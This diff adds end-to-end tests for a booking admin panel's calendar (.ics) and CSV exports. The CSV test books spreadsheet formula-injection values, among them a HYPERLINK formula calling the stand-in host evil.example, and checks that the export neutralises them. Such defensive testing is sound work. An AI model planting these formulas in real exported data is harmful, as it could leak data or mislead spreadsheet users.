@@ -1,0 +1,97 @@
+import { buffer } from 'node:stream/consumers';
+import papa from 'papaparse';
+import type { Download } from 'playwright-core';
+import { expect } from 'vitest';
+import { dayInRiyadh } from '../../../cms/tests/submissions.ts';
+import { entries, entryOf, notice, walk } from './bookings.ts';
+import { guests } from './test.ts';
+
+const textOf = async (download: Download): Promise<string> => (await buffer(await download.createReadStream())).toString();
+
+walk.for(guests)(
+  'the owner keeps a session in the calendar, on a $device in $spoken',
+  async ({ language, device }, { visit, bookings }) => {
+    const booking = await bookings.book({
+      name: 'عبدالله، القحطاني; الأب',
+      message: 'حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\nهل يمكن إضافة مصوّرة ثانية؟',
+    });
+    const scene = await visit({ language, device });
+    const { page, words } = scene;
+    await bookings.look(scene);
+    const downloading = page.waitForEvent('download');
+    await entryOf(scene, booking.name)
+      .getByRole('button', { name: words('admin.bookings.addToCalendar') })
+      .click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toBe(`booking-${booking.date}.ics`);
+    const lines = (await textOf(download)).replaceAll('\r\n ', '').split('\r\n');
+    const day = booking.date.replaceAll('-', '');
+    for (const line of [
+      'METHOD:PUBLISH',
+      `UID:${booking._id}@127.0.0.1`,
+      `DTSTART;VALUE=DATE:${day}`,
+      `SUMMARY:${words('package.wedding')}: عبدالله، القحطاني\\; الأب`,
+      `LOCATION:${booking.location}`,
+      'STATUS:TENTATIVE',
+    ])
+      expect(lines).toContain(line);
+    const description = lines.find((line) => line.startsWith('DESCRIPTION:'));
+    expect(description).toContain(`${booking.phone}\\n`);
+    expect(description).toContain(booking.email);
+    expect(description).toContain('حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\\nهل يمكن إضافة مصوّرة ثانية؟');
+    await notice(scene, words('admin.bookings.calendarSaved')).waitFor();
+  },
+);
+
+walk.for(guests)(
+  'the owner has what is shown as a spreadsheet, on a $device in $spoken',
+  async ({ language, device }, { visit, bookings }) => {
+    const hostile = await bookings.book({
+      name: `=HYPERLINK("http://evil.example/${bookings.word}","Sara")`,
+      phone: '0550123456',
+      location: '@SUM(A1)',
+      message: '+1+1\n"quoted", and more\n=2',
+    });
+    const arabic = await bookings.book({ name: `سارة ${bookings.word}`, message: 'حفلة، عائلية' }, { lang: 'ar', status: 'confirmed' });
+    const scene = await visit({ language, device });
+    const { page, words } = scene;
+    await bookings.look(scene);
+    await expect.poll(() => entries(scene).count()).toBe(2);
+    const downloading = page.waitForEvent('download');
+    await page.getByRole('button', { name: words('admin.bookings.export') }).click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toBe(`bookings-${dayInRiyadh()}.csv`);
+    const file = await textOf(download);
+    expect(file.startsWith('\uFEFF')).toBe(true);
+    const { data, errors } = papa.parse<string[]>(file.slice(1), { skipEmptyLines: true, newline: '\r\n' });
+    expect(errors).toEqual([]);
+    const columns = ['received', 'name', 'phone', 'email', 'package', 'date', 'location', 'status', 'language', 'message'] as const;
+    expect(data).toEqual([
+      columns.map((column) => words(`admin.bookings.${column}`)),
+      [
+        expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/u),
+        arabic.name,
+        `'${arabic.phone}`,
+        arabic.email,
+        words('package.wedding'),
+        arabic.date,
+        arabic.location,
+        words('admin.bookings.status.confirmed'),
+        words('admin.bookings.language.ar'),
+        arabic.message,
+      ],
+      [
+        expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/u),
+        `'${hostile.name}`,
+        `'${hostile.phone}`,
+        hostile.email,
+        words('package.wedding'),
+        hostile.date,
+        `'${hostile.location}`,
+        words('admin.bookings.status.pending'),
+        words('admin.bookings.language.en'),
+        `'${hostile.message}`,
+      ],
+    ]);
+  },
+);
